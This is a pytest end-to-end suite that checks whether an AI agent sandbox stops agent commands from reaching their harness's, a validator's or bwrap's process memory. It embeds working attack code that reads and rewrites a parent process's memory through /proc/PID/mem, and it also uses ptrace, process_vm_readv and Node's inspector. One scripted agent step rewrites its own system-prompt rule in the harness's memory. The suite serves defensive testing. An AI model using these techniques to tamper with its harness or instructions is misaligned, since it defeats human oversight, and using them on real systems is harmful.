"""No process the agent or the code under test started can reach another's memory
(docs/confinement.md, "Processes"). Each door is tried from inside the real sandbox, towards
the process that started the attacker: the harness (the real pi install's Node.js, as the
agent's view runs it), a validator's interpreter, bwrap's own first process. Each test has its
control: the same attack through the same door, open (the binary readable, the flag left out,
/proc/1 shown, no sandbox), works; so none can pass because the attack itself was broken.

The whole story, on the real pi binary through the real workflow, is
`test_the_agent_cannot_change_its_treatment_in_its_harness_memory`.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

import agentab.confinement.endpoint as endpoint
from agentab.confinement.bwrap import View
from agentab.confinement.endpoint import Sandbox
from agentab.confinement.views import NODE, agent_view, validator_view
from agentab.harnesses import get_harness
from agentab.run.process import run_process
from agentab.run.receipts import read_requests
from tests.e2e.adversary import run_step, run_workflow, scenario_with_cells
from tests.e2e.workflow import make_project

pytestmark = [pytest.mark.e2e]

ENV = {"PATH": "/usr/bin:/bin", "LC_ALL": "C.UTF-8"}
SECRET = "zq-harness-secret-" + "0123456789"

# The attacker: from the process it runs in, each door into its parent (`python3 - DOOR`).
# It prints `DOOR open <proof>` or `DOOR closed <error>`; the proof is read from the target.
ATTACK = r"""
import ctypes, os, sys
door, target = sys.argv[1], os.getppid()
def say(state, what):
    print(door, state, what, flush=True)
try:
    if door == "mem":  # read the parent's memory, and write it back where the secret is
        secret = os.environ.get("ZQ_SECRET", "").encode()
        maps = open(f"/proc/{target}/maps").read().splitlines()
        mem = open(f"/proc/{target}/mem", "r+b", buffering=0)
        count = 0
        for line in maps:
            span, perms = line.split()[:2]
            if not perms.startswith("rw"):
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            for at in range(start, end, 1 << 20):
                try:
                    mem.seek(at)
                    data = mem.read(min(1 << 20, end - at) + 64)
                except OSError:
                    continue
                where = data.find(secret)
                while where >= 0:
                    mem.seek(at + where)
                    mem.write(secret.upper())
                    count += 1
                    where = data.find(secret, where + 1)
        say("open" if count else "closed", f"rewrote {count}")
    elif door == "environ":
        say("open", open(f"/proc/{target}/environ", "rb").read().split(b"\0")[0].decode())
    elif door == "fd":
        say("open", os.readlink(f"/proc/{target}/fd/0"))
    elif door == "cwd":
        say("open", os.listdir(f"/proc/{target}/cwd")[:1])
    elif door == "ptrace":  # PTRACE_SEIZE: attached without stopping it
        libc = ctypes.CDLL(None, use_errno=True)
        code = libc.ptrace(0x4206, target, 0, 0)
        error = ctypes.get_errno()
        say("open" if code == 0 else "closed", os.strerror(error) if code else "attached")
    elif door == "process_vm":  # process_vm_readv of the parent's first readable page
        libc = ctypes.CDLL(None, use_errno=True)
        line = open(f"/proc/{target}/maps").readline()
        address = int(line.split("-")[0], 16)
        class Iovec(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
        buffer = ctypes.create_string_buffer(16)
        local, remote = Iovec(ctypes.addressof(buffer), 16), Iovec(address, 16)
        got = libc.process_vm_readv(target, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        error = ctypes.get_errno()
        say("open" if got == 16 else "closed", "read" if got == 16 else os.strerror(error))
    elif door == "pid1":  # bwrap's first process: it holds the sandbox's standard output
        maps = open("/proc/1/maps").readline()
        mem = open("/proc/1/mem", "r+b", buffering=0)
        mem.seek(int(maps.split("-")[0], 16))
        say("open", len(mem.read(16)))
except OSError as error:
    say("closed", error.strerror)
"""


def confined(tmp_path: Path, argv: list[str], view: View | None, env: dict) -> str:
    """`argv` run in a sandbox of `view` (or unconfined, `view` None); its standard output."""
    out, err = tmp_path / "out.txt", tmp_path / "err.txt"
    (tmp_path / "attack.py").write_text(ATTACK)
    result = run_process(
        argv,
        env=env,
        cwd=Path("/workspace") if view is not None else tmp_path,
        stdout_path=out,
        stderr_path=err,
        timeout_s=60,
        lock_path=tmp_path / "lock",
        sandbox=Sandbox(view) if view is not None else None,
    )
    assert result.exit_code == 0, err.read_text()[-2000:]
    return out.read_text()


def shown(output: str, door: str) -> str:
    """`open` or `closed`, as the attacker found the door."""
    for line in output.splitlines():
        if line.startswith(f"{door} "):
            return line.split()[1]
    raise AssertionError(f"the attacker said nothing of {door}: {output[-2000:]}")


# --------------------------------------------------------------------------- the harness


def harness_view(tmp_path: Path, installation, door_open: bool) -> View:
    """The agent's view of the real pi install; `door_open`: its Node.js bound readable, as
    before the execute-only copy (the control)."""
    clone, scratch = tmp_path / "clone", tmp_path / "scratch"
    clone.mkdir(exist_ok=True)
    scratch.mkdir(exist_ok=True)
    (clone / "attack.py").write_text(ATTACK)
    view = agent_view(clone, scratch, installation, [])
    if door_open:
        read_only = {h: i for h, i in view.read_only.items() if i != f"{NODE}/bin/node"}
        view = View(**{**view.__dict__, "read_only": read_only})
    return view


def as_harness(installation, command: str, flags: list[str] | None = None) -> list[str]:
    """Node.js as the harness runs (its flags from pi's adapter), holding SECRET in its memory,
    starting `command` in bash as pi's bash tool does, and printing whether its secret held."""
    if flags is None:
        flags = get_harness("pi").command(installation)[1:-1]
    script = (
        f"globalThis.held = ['{SECRET[:9]}', '{SECRET[9:]}'].join('');"
        "const child = require('child_process').spawn('/bin/bash', ['-c', process.argv[1]],"
        " {stdio: ['ignore', 'inherit', 'inherit']});"
        "child.on('exit', () => { console.log('secret', globalThis.held === "
        f"['{SECRET[:9]}', '{SECRET[9:]}'].join('') ? 'held' : 'changed'); process.exit(0); }});"
    )
    return [f"{NODE}/bin/node", *flags, "-e", script, command]


@pytest.mark.parametrize("door", ["mem", "environ", "fd", "cwd"])
def test_the_agents_commands_cannot_open_their_harness_through_proc(
    tmp_path, pi_installation, door
):
    env = {**ENV, "ZQ_SECRET": SECRET}
    attack = as_harness(pi_installation, f"python3 attack.py {door}")
    control = confined(tmp_path, attack, harness_view(tmp_path, pi_installation, True), env)
    assert shown(control, door) == "open", control  # the door, where the binary is readable
    if door == "mem":
        assert "secret changed" in control, control
    output = confined(tmp_path, attack, harness_view(tmp_path, pi_installation, False), env)
    assert shown(output, door) == "closed", output
    assert "secret held" in output, output


def test_the_agents_commands_cannot_open_nodes_inspector_in_their_harness(
    tmp_path, pi_installation
):
    # SIGUSR1 opens the inspector; whatever connects then runs code in the harness. Here the
    # attacker asks it for its targets: enough to hand it code to run.
    probe = (
        'kill -USR1 $PPID; sleep 1; python3 -c "import urllib.request as u; '
        "print('inspector', 'open' if u.urlopen('http://127.0.0.1:9229/json/list', timeout=3)"
        ".read() else 'empty')\" 2>/dev/null || echo inspector closed"
    )
    view = harness_view(tmp_path, pi_installation, False)
    control = confined(tmp_path, as_harness(pi_installation, probe, flags=[]), view, ENV)
    assert shown(control, "inspector") == "open", control
    assert "--disable-sigusr1" in get_harness("pi").command(pi_installation)
    output = confined(tmp_path, as_harness(pi_installation, probe), view, ENV)
    assert shown(output, "inspector") == "closed", output


@pytest.mark.parametrize("door", ["ptrace", "process_vm"])
def test_the_system_calls_into_another_process_fail_in_a_sandbox(tmp_path, door):
    argv = ["/bin/bash", "-c", f"python3 attack.py {door}; true"]  # bash stays its parent
    writable = {tmp_path: "/workspace"}
    # The control: the same calls, unconfined, reach the parent (root runs the tests).
    assert shown(confined(tmp_path, argv, None, ENV), door) == "open"
    output = confined(tmp_path, argv, View(writable=writable, cwd="/workspace"), ENV)
    assert shown(output, door) == "closed" and "Operation not permitted" in output, output


def test_bwraps_first_process_is_out_of_reach(tmp_path, monkeypatch):
    argv = ["/bin/bash", "-c", "python3 attack.py pid1; kill -0 1 && echo pid1 alive"]
    view = View(writable={tmp_path: "/workspace"}, cwd="/workspace")
    output = confined(tmp_path, argv, view, ENV)
    assert shown(output, "pid1") == "closed" and "pid1 alive" in output, output
    # The control: the same sandbox with /proc/1 shown; its memory opens for writing.
    hiding = ["--tmpfs", "/proc/1", "--remount-ro", "/proc/1"]
    real = endpoint.bwrap_argv

    def shown_proc(*args):
        command = real(*args)
        at = next(i for i in range(len(command)) if command[i : i + 4] == hiding)
        return command[:at] + command[at + 4 :]

    monkeypatch.setattr(endpoint, "bwrap_argv", shown_proc)
    assert shown(confined(tmp_path, argv, view, ENV), "pid1") == "open"


# --------------------------------------------------------------------------- a validator


def test_code_under_test_cannot_open_the_validator_that_started_it(tmp_path):
    checkout, home, inputs = (tmp_path / name for name in ("checkout", "home", "inputs"))
    for folder in (checkout, home, inputs):
        folder.mkdir()
    (checkout / "attack.py").write_text(ATTACK)
    # The validator: python3 holding its metrics in memory, running the code under test.
    validator = (
        f"import os, subprocess; pieces = ['{SECRET[:9]}', '{SECRET[9:]}']; "
        "os.environ['ZQ_SECRET'] = held = ''.join(pieces); "
        "subprocess.run(['bash', '-c', 'python3 attack.py mem']); "
        "print('secret', 'held' if held == ''.join(pieces) else 'changed')"
    )
    argv, env = ["python3", "-c", validator], ENV
    view = validator_view(checkout, home, None, inputs, network=False)
    interpreters = {h: i for h, i in view.read_only.items() if i.startswith(("/usr", "/bin"))}
    assert any(Path(i).name.startswith("python3") for i in interpreters.values()), view
    others = {h: i for h, i in view.read_only.items() if h not in interpreters}
    control = View(**{**view.__dict__, "read_only": others})  # the interpreters readable
    opened = confined(tmp_path, argv, control, env)
    assert shown(opened, "mem") == "open" and "secret changed" in opened, opened
    output = confined(tmp_path, argv, view, env)
    assert shown(output, "mem") == "closed" and "secret held" in output, output


# --------------------------------------------------------------------------- the servers


def test_the_model_server_and_the_proxy_are_in_no_sandboxs_process_space(tmp_path):
    # They run in the run step, outside: a process of the host, named by a marker, stands in.
    marker = "zq-host-server-" + "marker"
    host = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", marker])
    try:
        look = "for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done"
        argv = ["/bin/bash", "-c", look]
        seen = confined(tmp_path, argv, None, ENV)
        assert marker in seen  # the control: unconfined, it is there to read
        view = View(writable={tmp_path: "/workspace"}, cwd="/workspace")
        inside = confined(tmp_path, argv, view, ENV)
        assert marker not in inside and "bash" in inside, inside
    finally:
        host.kill()
        host.wait()


# --------------------------------------------------------------------------- the whole story

RULE_WORDS = ("always run the test suite", "rarely run the test suite")
REWRITE = r"""
import os, sys
old, new = (word.encode() for word in sys.argv[1:3])
pairs = [(old, new), (old.decode().encode("utf-16-le"), new.decode().encode("utf-16-le"))]
pid, chain = os.getpid(), []
while pid > 1 and len(chain) < 2:  # its bash, and pi, which started the bash
    status = open(f"/proc/{pid}/status").read()
    pid = int(status.split("PPid:")[1].split()[0])
    chain.append(pid)
count, errors = 0, []
for target in chain:
    try:
        maps = open(f"/proc/{target}/maps").read().splitlines()
        mem = open(f"/proc/{target}/mem", "r+b", buffering=0)
    except OSError as error:
        errors.append(error.strerror)
        continue
    for line in maps:
        span, perms = line.split()[:2]
        if not perms.startswith("rw"):
            continue
        start, end = (int(x, 16) for x in span.split("-"))
        for at in range(start, end, 1 << 20):
            try:
                mem.seek(at)
                data = mem.read(min(1 << 20, end - at) + 64)
            except OSError:
                continue
            for a, b in pairs:
                where = data.find(a)
                while where >= 0:
                    mem.seek(at + where)
                    mem.write(b)
                    count += 1
                    where = data.find(a, where + 1)
print("ZQ" + "COUNT", count, errors)
"""


def rewrite_cells() -> dict[str, list[dict]]:
    return {
        "calm": [{"id": "read", "say": "Reading.", "action": "read", "path": "calc.py"}],
        "rewrite": [
            {
                "id": "tool",
                "say": "Writing a tool.",
                "action": "write",
                "path": "zq_tool.py",
                "content": REWRITE,
            },  # fmt: skip
            run_step("rewrite", f"python3 zq_tool.py '{RULE_WORDS[0]}' '{RULE_WORDS[1]}'"),
            {"id": "read", "say": "Reading.", "action": "read", "path": "calc.py"},
        ],
    }


def rewrite_project(root: Path, harnesses: Path, confinement: str) -> Path:
    project = make_project(root, harnesses, repetitions=1)
    scenario_with_cells(project, rewrite_cells())
    toml = project / "demo" / "scenario.toml"
    text = toml.read_text().replace(
        '[deltas.attack.rewrite]\nmodel = "rewrite.toml"\n',
        '[deltas.attack.rewrite]\nmodel = "rewrite.toml"\ncontext_files = ["bricks/run-tests.md"]\n',
    )
    toml.write_text(text)
    config = project / "config" / "config.yaml"
    config.write_text(config.read_text() + f"confinement: {confinement}\n")
    return project


def requests_after_the_rewrite(folder: Path) -> tuple[list[str], dict]:
    """The system prompts of the harness's requests sent once the rewrite had run (the first
    carries its output), and the receipt."""
    systems, after = [], False
    for request in read_requests(folder / "model-requests.jsonl"):
        after = after or "ZQCOUNT" in request.text
        if after and request.origin == "harness":
            systems.append(request.system)
    return systems, json.loads((folder / "receipt.json").read_text())


@pytest.mark.slow
@pytest.mark.parametrize("confinement", ["none", "bwrap"])
def test_the_agent_cannot_change_its_treatment_in_its_harness_memory(
    tmp_path, pi_installation, confinement
):
    project = rewrite_project(tmp_path / "p", pi_installation.root.parents[1], confinement)
    result = run_workflow(project)
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    folder = project / "results" / "demo" / "runs" / "rewrite" / "r01"
    transcript = (folder / "transcript.jsonl").read_text()
    assert "ZQCOUNT" in transcript, transcript[-3000:]  # the rewrite ran
    systems, receipt = requests_after_the_rewrite(folder)
    assert systems, "a request after the rewrite"
    bricks = receipt["bricks"]
    if confinement == "none":
        # The control: pi's memory is open to its agent; the next request carried the altered
        # rule, and the receipt, which reads every turn, says so.
        assert any(RULE_WORDS[1] in system for system in systems), systems[-1][-2000:]
        assert bricks[0]["delivered"] is False and "changed during the run" in bricks[0]["evidence"]
        assert receipt["delivered"] is False
        return
    assert all(RULE_WORDS[0] in system for system in systems)
    assert not any(RULE_WORDS[1] in system for system in systems)
    assert "'Permission denied'" in transcript.split("ZQCOUNT")[1][:200], transcript[-3000:]
    assert bricks[0]["delivered"] is True and receipt["delivered"] is True, receipt


# A native harness is its own executable: waiting on its standard input, its memory is tried.
NATIVE = {"codex": ["app-server"], "claude-code": ["-p"]}


@pytest.mark.parametrize("name", sorted(NATIVE))
def test_a_native_harness_is_out_of_its_agents_reach_too(tmp_path, request, name):
    installed = {"codex": "codex_installation", "claude-code": "claude_installation"}[name]
    installation = request.getfixturevalue(installed)
    binary = Path(get_harness(name).command(installation)[0])
    inside = f"/opt/harness/{binary.relative_to(installation.root)}"
    clone, scratch = tmp_path / "clone", tmp_path / "scratch"
    clone.mkdir()
    scratch.mkdir()
    view = agent_view(clone, scratch, installation, [], harness_binary=binary)
    assert any(i == inside for i in view.read_only.values())
    wait = " ".join(NATIVE[name])
    probe = (
        f"sleep 4 | {inside} {wait} >/dev/null 2>&1 & sleep 1.5; "
        "(: <> /proc/$!/mem) 2>/dev/null && echo mem open || echo mem closed; "
        "head -c 1 /proc/$!/environ >/dev/null 2>&1 && echo environ open || echo environ closed"
    )
    argv, env = ["/bin/bash", "-c", probe], {**ENV, "HOME": "/tmp"}
    control = View(**{**view.__dict__, "read_only": {
        h: i for h, i in view.read_only.items() if i != inside
    }})  # fmt: skip
    opened = confined(tmp_path, argv, control, env)  # its binary readable: the door open
    assert (shown(opened, "mem"), shown(opened, "environ")) == ("open", "open"), opened
    output = confined(tmp_path, argv, view, env)
    assert (shown(output, "mem"), shown(output, "environ")) == ("closed", "closed"), output
